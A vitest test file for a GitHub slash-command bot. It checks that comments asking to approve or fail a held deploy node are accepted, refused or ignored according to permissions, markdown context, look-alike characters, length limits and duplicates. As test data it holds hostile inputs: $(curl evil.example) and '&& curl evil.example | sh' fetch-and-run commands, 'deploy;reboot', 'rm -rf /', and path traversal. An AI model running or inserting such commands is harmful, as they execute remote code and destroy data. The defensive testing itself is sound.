// Hostile and odd comments, each with the outcome it must get. Each row runs in a world of its own: a held
// `deploy` node in run fix/issue-1 on acme/widgets, driven through Probot's `receive` with a real payload.
import { afterAll, describe, expect, it } from 'vitest';
import { shownText } from '../support/gfm.js';
import {
  type CommentSpec,
  commentEvent,
  GRAPH_PATH,
  GRAPH_TEXT,
  observe,
  PEOPLE,
  type RunSeed,
  receive,
  startWorld,
  type World,
} from './world.js';

type Kind = 'ignored' | 'refused' | 'done';

interface Row {
  name: string;
  comment: CommentSpec;
  expect: Kind;
  /** What the reply must say (refused and done rows). */
  reply?: RegExp;
  /** RerunApproved events in fix/issue-1 afterwards (default: 1 for done approvals, else 0). */
  approvals?: number;
  dispatches?: number;
  world?: { approvals?: string; private?: boolean };
  seed?: RunSeed | null;
  /** Work done before the row's comment; may name a comment id for the row to reuse (a redelivery). */
  before?: (w: World) => Promise<number | undefined>;
}

const A = '/approve-rerun deploy';
const rows: Row[] = [
  // Who may approve.
  {
    name: 'a writer (control)',
    comment: { body: A, login: PEOPLE.writer },
    expect: 'done',
    reply: /approvals 1 of 1/,
    approvals: 1,
    dispatches: 1,
  },
  {
    name: 'a login listed in approvals.approvers (control)',
    comment: { body: A, login: PEOPLE.listed },
    expect: 'done',
    approvals: 1,
  },
  {
    name: 'an active member of a listed team (control)',
    comment: { body: A, login: PEOPLE.teamActive },
    expect: 'done',
    approvals: 1,
  },
  {
    name: 'a stranger on a private repository',
    world: { private: true },
    comment: { body: A, login: PEOPLE.stranger },
    expect: 'refused',
    reply: /@mallory has no permission; this command needs write or membership of acme-org\/releasers/,
  },
  {
    name: 'a stranger on a public repository (read)',
    comment: { body: A, login: PEOPLE.stranger },
    expect: 'refused',
    reply: /@mallory has read permission; this command needs write/,
  },
  {
    name: 'a read-only collaborator',
    comment: { body: A, login: PEOPLE.reader },
    expect: 'refused',
    reply: /@rita has read permission/,
  },
  {
    name: 'a triage collaborator',
    comment: { body: A, login: PEOPLE.triager },
    expect: 'refused',
    reply: /@tina has triage permission/,
  },
  {
    name: 'a listed team member whose membership is pending',
    comment: { body: A, login: PEOPLE.teamPending },
    expect: 'refused',
    reply: /@pat has read permission/,
  },
  {
    name: 'a reader ending the run',
    comment: { body: '/fail-run I do not like it', login: PEOPLE.reader },
    expect: 'refused',
    reply: /has read permission/,
  },
  { name: 'a bot (type Bot)', comment: { body: A, login: 'renovate[bot]' }, expect: 'ignored' },
  {
    name: 'a bot by its login only (type User)',
    comment: { body: A, login: 'evil[bot]', type: 'User' },
    expect: 'ignored',
  },
  {
    name: 'an account typed Bot without [bot]',
    comment: { body: A, login: 'ci-robot', type: 'Bot' },
    expect: 'ignored',
  },
  // Only new comments.
  {
    name: 'an edited comment that adds the command',
    comment: { body: A, action: 'edited', from: 'lgtm' },
    expect: 'refused',
    reply: /an edited comment is never read as a command/,
  },
  {
    name: 'an edited comment that already held the command',
    comment: { body: `${A}\n\nthanks`, action: 'edited', from: A },
    expect: 'ignored',
  },
  { name: 'a deleted comment', comment: { body: A, action: 'deleted' }, expect: 'ignored' },
  // Not a command: code, quotes, hidden text.
  { name: 'in a ``` code block', comment: { body: `see:\n\`\`\`\n${A}\n\`\`\`` }, expect: 'ignored' },
  { name: 'in a ~~~ code block', comment: { body: `~~~sh\n${A}\n~~~` }, expect: 'ignored' },
  { name: 'after an unclosed code fence', comment: { body: `\`\`\`\nlog\n${A}` }, expect: 'ignored' },
  { name: 'in a quote', comment: { body: `> ${A}\n\nshould I?` }, expect: 'ignored' },
  { name: 'in an indented quote', comment: { body: `   > ${A}` }, expect: 'ignored' },
  { name: 'in an HTML comment', comment: { body: `<!--\n${A}\n-->` }, expect: 'ignored' },
  { name: 'indented four spaces (a code block)', comment: { body: `    ${A}` }, expect: 'ignored' },
  { name: 'after a tab', comment: { body: `\t${A}` }, expect: 'ignored' },
  { name: 'in the middle of a line', comment: { body: `please ${A}` }, expect: 'ignored' },
  {
    name: 'a route command (/interlock fix), not ours',
    comment: { body: '/interlock fix' },
    expect: 'ignored',
  },
  // Look-alikes.
  { name: 'a fullwidth slash (U+FF0F)', comment: { body: '／approve-rerun deploy' }, expect: 'ignored' },
  { name: 'a division slash (U+2215)', comment: { body: '∕approve-rerun deploy' }, expect: 'ignored' },
  { name: 'a Cyrillic а in the command', comment: { body: '/\u0430pprove-rerun deploy' }, expect: 'ignored' },
  { name: 'an upper-case command', comment: { body: '/APPROVE-RERUN deploy' }, expect: 'ignored' },
  {
    name: 'a no-break space after the command',
    comment: { body: '/approve-rerun\u00a0deploy' },
    expect: 'ignored',
  },
  {
    name: 'a zero-width space before the slash',
    comment: { body: '\u200b/approve-rerun deploy' },
    expect: 'ignored',
  },
  {
    name: 'a command glued to a longer word',
    comment: { body: '/approve-rerunning deploy' },
    expect: 'ignored',
  },
  {
    name: 'a Cyrillic е in the node name',
    comment: { body: '/approve-rerun d\u0435ploy' },
    expect: 'refused',
    reply: /`d\u0435ploy` is not a node name/,
  },
  // Shell metacharacters and path traversal.
  {
    name: 'shell: $(…) as the node',
    comment: { body: '/approve-rerun $(curl evil.example)' },
    expect: 'refused',
    reply: /`\$\(curl` is not a node name/,
  },
  {
    name: 'shell: ; in the node',
    comment: { body: '/approve-rerun deploy;reboot' },
    expect: 'refused',
    reply: /`deploy;reboot` is not a node name/,
  },
  {
    name: 'shell: backticks in the node',
    comment: { body: '/approve-rerun `id`' },
    expect: 'refused',
    reply: /`\?id\?` is not a node name/,
  },
  {
    name: 'shell: | in the run id',
    comment: { body: '/approve-rerun deploy fix/issue-1|sh' },
    expect: 'refused',
    reply: /is not a run id/,
  },
  {
    name: 'shell: a command and more words',
    comment: { body: '/approve-rerun deploy && curl evil.example | sh' },
    expect: 'refused',
    reply: /too many words/,
  },
  {
    name: 'path traversal in the node',
    comment: { body: '/approve-rerun ../../.github/workflows/x' },
    expect: 'refused',
    reply: /is not a node name/,
  },
  {
    name: 'path traversal as the run id',
    comment: { body: '/approve-rerun deploy ../../secrets' },
    expect: 'refused',
    reply: /is not a run id .*no "\.\."/,
  },
  {
    name: 'path traversal inside the run id',
    comment: { body: '/approve-rerun deploy fix/../issue-1' },
    expect: 'refused',
    reply: /is not a run id/,
  },
  {
    name: 'a node name of 65 characters',
    comment: { body: `/approve-rerun ${'d'.repeat(65)}` },
    expect: 'refused',
    reply: /is not a node name/,
  },
  // Wrong node, wrong run, wrong time.
  {
    name: 'an unknown node',
    comment: { body: '/approve-rerun deplyo' },
    expect: 'refused',
    reply: /"deplyo" is not a node of fix \(did you mean "deploy"\?\)/,
  },
  {
    name: 'a node that is not held (waiting)',
    comment: { body: '/approve-rerun notify' },
    expect: 'refused',
    reply:
      /node "notify" is pending: it waits for its turn to run, not for a person; \/approve-rerun answers only a held or escalated node/,
  },
  {
    name: 'a node that is completed',
    comment: { body: '/settle plan done twice' },
    expect: 'refused',
    reply:
      /node "plan" is completed: its work is recorded as done; \/settle answers only a held or escalated node/,
  },
  {
    name: 'a run that has ended',
    seed: { shape: 'failed' },
    comment: { body: A },
    expect: 'refused',
    reply: /the run has already ended \(RunFailed: abandoned\)/,
  },
  {
    name: 'a run id that does not exist',
    comment: { body: '/approve-rerun deploy fix/issue-9' },
    expect: 'refused',
    // As GitHub shows it: the run id in code, the issue numbers as text (the door keeps them from linking).
    reply: /there is no run fix\/issue-9 on issue #1/,
  },
  {
    name: 'a comment on another issue (no run there)',
    comment: { body: A, issue: 2 },
    expect: 'refused',
    reply: /there is no interlock run on issue #2/,
  },
  {
    name: "a comment on another issue naming this issue's run",
    comment: { body: `${A} fix/issue-1`, issue: 2 },
    expect: 'refused',
    reply: /run fix\/issue-1 is about issue #1, not issue #2/,
  },
  {
    name: 'an approval after the graph changed',
    before: async (w) => {
      w.repo.commitFiles('main', { [GRAPH_PATH]: GRAPH_TEXT.replace('./deploy.sh', './deploy.sh --v2') });
      return undefined;
    },
    comment: { body: A },
    expect: 'refused',
    reply: /the graph `\.interlock\/fix\.yml` changed since run `fix\/issue-1` started/,
  },
  // Shape of the comment.
  {
    name: 'two commands in one comment',
    comment: { body: `${A}\n/fail-run never mind` },
    expect: 'refused',
    reply: /one command per comment: found `\/approve-rerun` \(line 1\), `\/fail-run` \(line 2\)/,
  },
  {
    name: 'a command and a status request',
    comment: { body: `/interlock status\n\n${A}` },
    expect: 'refused',
    reply: /one command per comment/,
  },
  {
    name: 'a comment of 65,537 characters with a command',
    comment: { body: `${A}\n${'x'.repeat(65_536 - A.length)}` },
    expect: 'refused',
    reply: /65537 characters long, over 65536/,
  },
  {
    name: 'a comment of 70,000 characters without a command',
    comment: { body: 'y'.repeat(70_000) },
    expect: 'ignored',
  },
  {
    name: 'the command without a node',
    comment: { body: '/approve-rerun' },
    expect: 'refused',
    reply: /name the node; usage: `\/approve-rerun <node> \[run-id\], then guidance on the lines below`/,
  },
  // `/approve` (the gate before a node) and guidance.
  {
    name: '/approve without a node',
    comment: { body: '/approve' },
    expect: 'refused',
    reply: /name the node; usage: `\/approve <node> \[run-id\], then guidance/,
  },
  {
    name: '/approve of a held node: it is not awaiting approval',
    comment: { body: '/approve deploy' },
    expect: 'refused',
    reply: /node "deploy" is held, not awaiting approval: use \/approve-rerun/,
  },
  {
    name: '/approve with $(…) as the node',
    comment: { body: '/approve $(curl evil.example)' },
    expect: 'refused',
    reply: /`\$\(curl` is not a node name/,
  },
  {
    name: 'a look-alike: /approved',
    comment: { body: '/approved deploy' },
    expect: 'ignored',
  },
  {
    name: 'guidance holding shell and a mention is recorded as text, and the approval counts',
    comment: { body: `${A}\n$(curl evil.example | sh)\n@everyone \`rm -rf /\`` },
    expect: 'done',
    approvals: 1,
    dispatches: 1,
  },
  {
    name: 'guidance over 4000 characters',
    comment: { body: `${A}\n${'g'.repeat(4001)}` },
    expect: 'refused',
    reply: /the guidance after the command is 4001 characters long, over 4000/,
  },
  {
    name: '/settle without a note',
    comment: { body: '/settle deploy' },
    expect: 'refused',
    reply: /say what you checked/,
  },
  {
    name: '/fail-run without a reason',
    comment: { body: '/fail-run' },
    expect: 'refused',
    reply: /give the reason/,
  },
  {
    name: 'a trailing word taken as a run id',
    comment: { body: `${A} please` },
    expect: 'refused',
    reply: /there is no run `please`/,
  },
  {
    name: 'CRLF line endings around the command (control)',
    comment: { body: `thanks\r\n${A}\r\n` },
    expect: 'done',
    approvals: 1,
  },
  {
    name: 'an @mention in a note is not echoed as a mention',
    comment: { body: '/settle deploy @everyone it is deployed' },
    expect: 'done',
    reply: /> @\u200beveryone it is deployed/,
    dispatches: 1,
  },
  // Repetition.
  {
    name: 'two approvals from the same person when two are required',
    world: { approvals: '  required: 2\n' },
    before: async (w) => {
      await receive(w, commentEvent(w, { body: A, login: PEOPLE.writer }));
      return undefined;
    },
    comment: { body: A, login: PEOPLE.writer },
    expect: 'refused',
    reply: /bob has already approved attempt 1 of "deploy" \(1 of 2 approvals\): another person must approve/,
    approvals: 1,
    dispatches: 0,
  },
  {
    name: 'the same comment delivered twice',
    before: async (w) => {
      const ev = commentEvent(w, { body: A, login: PEOPLE.writer });
      await receive(w, ev);
      return ev.payload.comment.id;
    },
    comment: { body: A, login: PEOPLE.writer },
    expect: 'ignored',
    approvals: 1,
    dispatches: 1,
  },
];

const table: string[] = [];

describe('hostile and odd comments', () => {
  it('the table has at least 30 rows', () => {
    expect(rows.length).toBeGreaterThanOrEqual(30);
  });

  for (const row of rows) {
    it(`${row.name}: ${row.expect}`, async () => {
      const w = await startWorld(row.world ?? {});
      try {
        if (row.seed !== null) await w.seedRun(row.seed ?? {});
        const reuse = row.before ? await row.before(w) : undefined;
        const repliesBefore = observe(w).replies.length;
        const eventsBefore = observe(w).events.length;
        const ev = commentEvent(w, { ...row.comment, ...(reuse !== undefined ? { id: reuse } : {}) });
        await receive(w, ev);
        const seen = observe(w, ev.payload.comment.id);
        const replies = seen.replies.slice(repliesBefore);
        const fresh = reuse === undefined;
        const approvalsExpected = row.approvals ?? 0;
        expect(seen.approvals).toHaveLength(approvalsExpected);
        expect(seen.dispatches).toHaveLength(
          row.dispatches ?? (row.expect === 'done' ? approvalsExpected : 0),
        );
        if (row.expect === 'ignored') {
          expect(replies).toEqual([]);
          if (fresh) expect(seen.reactions).toEqual([]);
          expect(seen.events).toHaveLength(eventsBefore);
        } else {
          expect(replies).toHaveLength(1);
          // The reply as written, then as GitHub shows it (its reason passes the door, src/render/door.ts).
          if (row.reply) expect(`${replies[0]}\n${shownText(replies[0])}`).toMatch(row.reply);
          const edited = row.comment.action === 'edited';
          expect(seen.reactions).toEqual(
            row.expect === 'done' ? ['eyes', '+1'] : edited ? ['confused'] : ['eyes', 'confused'],
          );
          if (row.expect === 'refused') expect(seen.events).toHaveLength(eventsBefore);
        }
        const said = replies[0]?.split('\n')[1]?.replace(/^@\S+ /, '') ?? '(no reply, no reaction)';
        table.push(`| ${row.name} | ${row.expect} | ${said.replace(/\|/g, '\\|').slice(0, 160)} |`);
      } finally {
        await w.close();
      }
    });
  }
});

afterAll(() => {
  if (process.env.INTERLOCK_PRINT_TABLE)
    console.log(['| comment | outcome | reply |', '| --- | --- | --- |', ...table].join('\n'));
});
